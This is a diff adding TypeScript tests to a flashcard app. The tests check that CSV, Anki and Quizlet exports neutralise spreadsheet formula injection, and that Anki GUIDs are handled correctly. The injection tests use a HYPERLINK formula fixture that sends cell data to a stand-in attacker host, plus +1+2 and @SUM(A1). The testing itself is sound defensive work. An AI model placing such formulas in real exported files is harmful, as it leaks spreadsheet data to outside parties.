@@ -113,3 +113,47 @@ describe('import', () => {
 		expect(parsed.data).toHaveLength(4);
 	});
 });
+
+describe('formula injection (OWASP CSV injection)', () => {
+	const evil = '=HYPERLINK("https://evil.example/?x="&A3,"click")';
+	const hostile = () => {
+		const deck = sampleDeck();
+		const c = deck.cards[2];
+		c.prompt = evil;
+		c.answer = '+1+2';
+		c.tags = ['@SUM(A1)'];
+		return deck;
+	};
+
+	it('prefixes cells starting with = + - @ tab or CR with a quote in CSV, Anki and Quizlet exports', () => {
+		const csv = Papa.parse<string[]>(toCsv(hostile()).slice(1)).data;
+		expect(csv[3]).toEqual([`'${evil}`, "'+1+2", "'@SUM(A1)"]);
+		const anki = Papa.parse<string[]>(toAnkiTsv(hostile()).split('\n').slice(7).join('\n'), { delimiter: '\t' }).data;
+		expect(anki[2]).toEqual([`'${evil}`, "'+1+2", "'@SUM(A1)", 'where-1']);
+		expect(toQuizletTsv(hostile()).trimEnd().split('\n')[2]).toBe(`'${evil}\t'+1+2`);
+	});
+
+	it('leaves other cells as they are, and reads its own quoted cells back unchanged', () => {
+		const anki = toAnkiTsv(hostile());
+		expect(anki).toContain('\tAna Ruiz\t\twho-said-1\n');
+		const back = parseCsvDeck(toCsv(hostile()), 'x.csv', { now });
+		expect(back.cards[2].prompt).toBe(evil);
+		expect(back.cards[2].answer).toBe('+1+2');
+		expect(back.cards[2].tags).toEqual(['@SUM(A1)']);
+	});
+});
+
+describe('Anki GUIDs', () => {
+	const anki = (rows: string[]) => ['#separator:tab', '#guid column:3', ...rows].join('\n') + '\n';
+
+	it('names a row that repeats an earlier row\'s GUID for a different card', () => {
+		expect(problems(() => parseCsvDeck(anki(['Capital of France\tParis\tg1', 'Capital of Spain\tMadrid\tg2', 'Capital of Italy\tRome\tg1']), 'x.txt', { now }))).toEqual([
+			'line 5: GUID "g1" is already used on line 3 by a different card'
+		]);
+	});
+
+	it('imports the same note twice once', () => {
+		const deck = parseCsvDeck(anki(['Capital of France\tParis\tg1', 'Capital of France\tParis\tg1']), 'x.txt', { now });
+		expect(deck.cards.map((c) => c.id)).toEqual(['g1']);
+	});
+});
